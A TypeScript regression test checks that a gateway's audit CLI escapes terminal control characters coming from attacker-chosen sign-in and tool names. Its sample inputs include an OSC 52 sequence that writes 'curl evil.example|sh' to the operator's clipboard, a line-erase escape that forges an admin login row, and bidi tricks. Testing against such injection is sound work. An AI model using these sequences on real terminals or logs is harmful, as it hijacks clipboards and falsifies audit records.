import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { runCli } from '../helpers/cli.js';
import { postMcp, startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { TestBrowser, formOf } from '../helpers/oauth-browser.js';

/**
 * A red-team finding on issue 10: text an anonymous caller chooses reaches the operator's
 * terminal. The name typed on the sign-in page is the `principal` of the failed attempt's audit
 * record, and `portcullis audit query` printed it raw: an OSC 52 sequence wrote the operator's
 * clipboard, and `ESC[2K CR` erased the line and put a forged row in its place. Every
 * human-readable CLI output now shows such characters as visible escapes.
 */
const FORGED = 'x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[2K\radmin  login-succeeded';
const BIDI = '\u202eevil\u200b\u0085';
// Anything a terminal acts on or a person cannot see: C0 but newline, DEL, C1, bidi controls,
// zero-width characters. Returns the first one, as its code point.
function firstHidden(text: string): string | undefined {
  for (const ch of text) {
    const cp = ch.codePointAt(0)!;
    const hidden =
      (cp < 0x20 && cp !== 0x0a) ||
      (cp >= 0x7f && cp <= 0x9f) ||
      (cp >= 0x200b && cp <= 0x200f) ||
      (cp >= 0x202a && cp <= 0x202e) ||
      (cp >= 0x2066 && cp <= 0x2069) ||
      cp === 0xfeff;
    if (hidden) return `U+${cp.toString(16)}`;
  }
  return undefined;
}

describe('attack: terminal escape sequences in audited names', () => {
  let t: TestGateway;
  let origin: string;
  let key: string;

  const failLogin = async (name: string) => {
    const browser = new TestBrowser(origin);
    const { action, csrf } = formOf((await browser.navigate('/account')).body);
    const res = await browser.request(action, { form: { csrf, name, password: 'not the password' } });
    assert.equal(res.status, 401);
  };

  before(async () => {
    t = await startTestGateway();
    origin = t.gw.url.origin;
    key = (await t.key({ owner: 'alice', scopes: ['memory:read'] })).key;
    await failLogin(FORGED);
    await failLogin(BIDI);
    await failLogin('Zoë 日本');
    // An unknown tool's name is recorded as the caller sent it.
    await postMcp(
      t.url,
      { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'memory\x1b[2Jget', arguments: {} } },
      { key },
    );
  });
  after(() => t.close());

  it('audit query shows the escapes instead of acting on them, one line per record', async () => {
    const r = await runCli(['audit', 'query', '--data-dir', t.dataDir]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(
      firstHidden(r.stdout),
      undefined,
      'no control, bidi or invisible character reaches the terminal',
    );
    assert.ok(
      r.stdout.includes('x\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\x1b[2K\\radmin  login-succeeded'),
    );
    assert.ok(r.stdout.includes('<U+202E>evil<U+200B>\\x85'), r.stdout);
    const [header, ...rows] = r.stdout.trimEnd().split('\n');
    assert.match(header!, /^SEQ\s+TIME\s+PRINCIPAL/);
    for (const row of rows) assert.match(row, /^\d+ /, `a row of its own: ${row}`);
  });

  it('a name in any script, and an unknown tool name, still read plainly around the escapes', async () => {
    const r = await runCli(['audit', 'query', '--data-dir', t.dataDir]);
    assert.ok(r.stdout.includes('Zoë 日本'), 'letters of every script are shown as they are');
    assert.ok(r.stdout.includes('memory\\x1b[2Jget'), r.stdout);
  });

  it('audit query --json stays JSON and keeps every character, escaped', async () => {
    const r = await runCli(['audit', 'query', '--json', '--data-dir', t.dataDir]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(firstHidden(r.stdout), undefined);
    const principals = r.stdout
      .trimEnd()
      .split('\n')
      .map((l) => (JSON.parse(l) as { principal?: string }).principal);
    assert.ok(principals.includes(FORGED), 'the exact value survives the round trip');
    assert.ok(principals.includes(BIDI));
  });

  it('audit export writes JSON lines with the same escaping', async () => {
    const r = await runCli(['audit', 'export', '--data-dir', t.dataDir]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(firstHidden(r.stdout), undefined);
    assert.ok(r.stdout.includes('\\u202eevil'));
  });
});
